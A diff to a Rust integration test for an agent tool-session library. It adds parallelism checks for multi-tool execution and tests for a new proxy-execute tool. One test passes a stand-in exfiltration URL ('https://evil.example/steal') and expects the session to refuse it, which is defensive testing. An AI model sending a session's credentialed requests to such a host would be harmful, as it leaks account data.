@@ -21,6 +21,10 @@ use toolsmith_store::{KeyRing, LinkToken, SqliteStore, Store};
 /// What the local API saw: (method and path, authorization header).
 type Seen = Arc<Mutex<Vec<(String, Option<String>)>>>;
 
+/// Requests in flight now, and the most seen at once.
+static IN_FLIGHT: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
+static MAX_IN_FLIGHT: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
+
 async fn github_api(seen: Seen) -> String {
     async fn repos(State(seen): State<Seen>, headers: HeaderMap) -> (StatusCode, Json<Value>) {
         let auth = headers.get("authorization").map(|v| v.to_str().unwrap().to_owned());
@@ -28,6 +32,11 @@ async fn github_api(seen: Seen) -> String {
         if auth.as_deref() != Some("Bearer ghp_agentloop") {
             return (StatusCode::UNAUTHORIZED, Json(json!({"message": "Bad credentials"})));
         }
+        use std::sync::atomic::Ordering::SeqCst;
+        let now = IN_FLIGHT.fetch_add(1, SeqCst) + 1;
+        MAX_IN_FLIGHT.fetch_max(now, SeqCst);
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        IN_FLIGHT.fetch_sub(1, SeqCst);
         (
             StatusCode::OK,
             Json(
@@ -88,6 +97,7 @@ async fn agent_loop_search_connect_wait_execute_with_memory() {
             "user_id": "ada",
             "toolkits": {"enable": ["github"]},
             "manage_connections": {"enable": true, "enable_wait_for_connections": true},
+            "proxy_execute": {"enable": true},
         }))
         .await
         .unwrap();
@@ -100,7 +110,8 @@ async fn agent_loop_search_connect_wait_execute_with_memory() {
             "COMPOSIO_GET_TOOL_SCHEMAS",
             "COMPOSIO_MULTI_EXECUTE_TOOL",
             "COMPOSIO_MANAGE_CONNECTIONS",
-            "COMPOSIO_WAIT_FOR_CONNECTIONS"
+            "COMPOSIO_WAIT_FOR_CONNECTIONS",
+            "COMPOSIO_PROXY_EXECUTE"
         ]
     );
 
@@ -219,6 +230,44 @@ async fn agent_loop_search_connect_wait_execute_with_memory() {
     assert_eq!((created.data["success_count"].as_u64(), created.data["error_count"].as_u64()), (Some(1), Some(1)));
     let seen = seen.lock().unwrap().clone();
     assert!(seen.contains(&("POST /repos/octo/hello/issues".into(), Some("Bearer ghp_agentloop".into()))), "{seen:?}");
+
+    // Calls of one MULTI_EXECUTE run at once, and come back in input order.
+    let five: Vec<Value> =
+        (0..5).map(|_| json!({"tool_slug": "GITHUB_LIST_REPOS_FOR_AUTHENTICATED_USER", "arguments": {}})).collect();
+    MAX_IN_FLIGHT.store(0, std::sync::atomic::Ordering::SeqCst);
+    let parallel = session
+        .execute_meta("COMPOSIO_MULTI_EXECUTE_TOOL", json!({"tools": five, "sync_response_to_workbench": false}))
+        .await;
+    assert_eq!(parallel.data["success_count"], 5, "{:#}", parallel.data);
+    let indexes: Vec<u64> =
+        parallel.data["results"].as_array().unwrap().iter().map(|r| r["index"].as_u64().unwrap()).collect();
+    assert_eq!(indexes, [0, 1, 2, 3, 4]);
+    assert!(MAX_IN_FLIGHT.load(std::sync::atomic::Ordering::SeqCst) >= 2, "the calls ran one after another");
+
+    // PROXY_EXECUTE: a raw request with the session's account; other sites refused.
+    let proxied = session
+        .execute_meta(
+            "COMPOSIO_PROXY_EXECUTE",
+            json!({"toolkit_slug": "github", "endpoint": "/user/repos", "method": "GET"}),
+        )
+        .await;
+    assert!(proxied.successful, "{:?}", proxied.error);
+    assert_eq!(proxied.data["response"]["successful"], true, "{:#}", proxied.data);
+    assert!(proxied.data["response"]["data"].to_string().contains("octo/hello"), "{:#}", proxied.data);
+    let elsewhere = session
+        .execute_meta(
+            "COMPOSIO_PROXY_EXECUTE",
+            json!({"toolkit_slug": "github", "endpoint": "https://evil.example/steal", "method": "GET"}),
+        )
+        .await;
+    assert_eq!(elsewhere.data["response"]["successful"], false, "{:#}", elsewhere.data);
+    let refused = session
+        .execute_meta(
+            "COMPOSIO_PROXY_EXECUTE",
+            json!({"toolkit_slug": "slack", "endpoint": "/chat.postMessage", "method": "POST"}),
+        )
+        .await;
+    assert!(refused.error.as_deref().unwrap().contains("not enabled in this session"), "{refused:?}");
 
     // 6. Outside the session: refused, saying why.
     let slack = session
